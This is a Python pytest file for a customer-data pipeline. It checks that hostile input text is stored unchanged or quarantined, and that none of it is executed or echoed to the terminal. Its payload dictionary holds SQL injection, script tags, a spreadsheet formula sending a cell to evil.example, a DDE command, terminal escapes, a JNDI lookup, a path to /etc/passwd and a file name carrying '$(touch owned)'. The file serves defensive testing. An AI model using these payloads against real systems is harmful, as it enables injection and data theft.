"""Hostile text from a file to the store and the terminal: kept as it is or in quarantine, never lost, never obeyed."""

import csv
import io
import json
from pathlib import Path

import pytest

from scv_assets.stages import PUBLISHED
from tests.pipeline.company import Company
from tests.pipeline.shop import HEADER, customers_file

MEGABYTE = "M" * 1_048_576
HOSTILE = {
    "sql": "Robert'); DROP TABLE golden_profile;--",
    "sql key": "x' OR '1'='1",
    "html": "<script>alert(1)</script><img src=x onerror=alert(2)>",
    "formula": '=HYPERLINK("http://evil.example/?"&A1,"free")',
    "command": "@SUM(1+1)*cmd|' /C calc'!A0",
    "right to left": "\u202egnp.evil\u202c \u200f\u200eשלום",
    "terminal": "\x1b]0;owned\x07\x1b[31mred\x1b[2J",
    "markup": "[/nothing] [bold]x[/] [link=http://evil.example]y",
    "newline": 'first "line"\nsecond;line,\r\nthird',
    "NUL": "before\0after",
    "combining": "Z̷͉̈́a̸̛͜l̵̡̾g̴̢̈́o̵͖͐ 👩‍👩‍👧‍👦",
    "template": "{{7*7}} ${jndi:ldap://evil.example} %s %(x)s {0}",
    "path": "../../../../etc/passwd\\..\\",
    "backslashes": "\\N \\0 \\x00 \\' \\\"",
    "megabyte": MEGABYTE,
}


def hostile_file() -> str:
    """Return a file of customers in which each hostile text is a name, a city, a key."""
    text = io.StringIO()
    table = csv.writer(text, lineterminator="\n")
    table.writerow(HEADER.split(","))
    for number, (name, value) in enumerate(HOSTILE.items()):
        key = value if name.endswith("key") else f"h{number}"
        table.writerow([key, value, value, f"h{number}@mail.be", "", value, "active", "yes", "2026-03-04T10:00:00"])
    # two people of one mailbox whose names are nothing alike, so that a search by it shows both
    for key, first, last in (("p1", HOSTILE["markup"], "Aerts"), ("p2", HOSTILE["terminal"], "Wouters")):
        table.writerow([key, first, last, "shared@mail.be", "", "", "active", "yes", "2026-03-04T10:00:00"])
    table.writerow(["status", "x", "y", "z@mail.be", "", "", HOSTILE["html"], "yes", "2026-03-04T10:00:00"])
    table.writerow(["when", "x", "y", "z@mail.be", HOSTILE["sql"], "", "active", "yes", HOSTILE["markup"]])
    return text.getvalue()


def of_store(company: Company, text: str) -> str:
    """Return a text as the store holds it: PostgreSQL knows no NUL."""
    return text.replace("\0", "\ufffd") if company.home.settings.store_url.startswith("postgresql") else text


@pytest.fixture(params=["sqlite", pytest.param("postgresql", marks=[pytest.mark.server, pytest.mark.slow])])
def attacked(request: pytest.FixtureRequest, new_shop: Company) -> Company:
    """A shop after a run over hostile text; its very files are named for mischief."""
    if request.param == "postgresql":
        url = request.getfixturevalue("postgresql_url")
        new_shop.replace("scv.yaml", "start_on:", f'store: {{url: "{url}"}}\nstart_on:')
    new_shop.deliver(customers_file(4), hostile_file())
    new_shop.deliver("customers/[/red] $(touch owned) .csv", "x")
    told = new_shop.scv("run")
    assert told.code == 0, told.text
    return new_shop


def test_hostile_text_is_kept_whole_and_does_nothing(attacked: Company) -> None:
    raw = {row["source_key"]: row for row in attacked.rows("source_record") if row["source"] == "customers"}
    refused = {row["row_number"]: row for row in attacked.rows("quarantine")}
    for number, (name, value) in enumerate(HOSTILE.items()):
        key = value if name.endswith("key") else f"h{number}"
        stored = of_store(attacked, value)
        if number + 1 in refused:
            assert json.loads(refused[number + 1]["row"])["first_name"] in {value, stored}, name
        else:
            assert raw[key]["raw_first_name"] == stored, name
            assert raw[key]["raw_city"] == stored, name
    assert [row["column"] for row in refused.values()].count("status") == 1
    assert [row["column"] for row in refused.values()].count("changed") == 1
    assert len(raw) + len(refused) == 5 + len(HOSTILE) + 4
    assert set(attacked.tables()) == set(PUBLISHED)
    assert not list(attacked.root.rglob("owned"))
    assert len({row["customer_id"] for row in attacked.rows("crosswalk")}) == len(attacked.rows("golden_profile"))

    control = {chr(code) for code in (*range(9), *range(11, 32), 127) if code != 13}
    for arguments in (
        ("status",),
        ("quarantine", "list"),
        ("profile", "shared@mail.be"),
        *(("profile", f"h{number}@mail.be") for number in range(len(HOSTILE)) if f"h{number}" in raw),
    ):
        told = attacked.scv(*arguments)
        assert told.code == 0, (arguments, told.text[:2000])
        assert not control & set(told.text), (arguments, "a control character reaches the terminal")
    for value in HOSTILE.values():
        if value is not MEGABYTE and "\0" not in value:
            assert attacked.scv("profile", value).code in {0, 1}
    assert "Nothing new" in attacked.scv("run").out
    assert Path(attacked.root).exists()
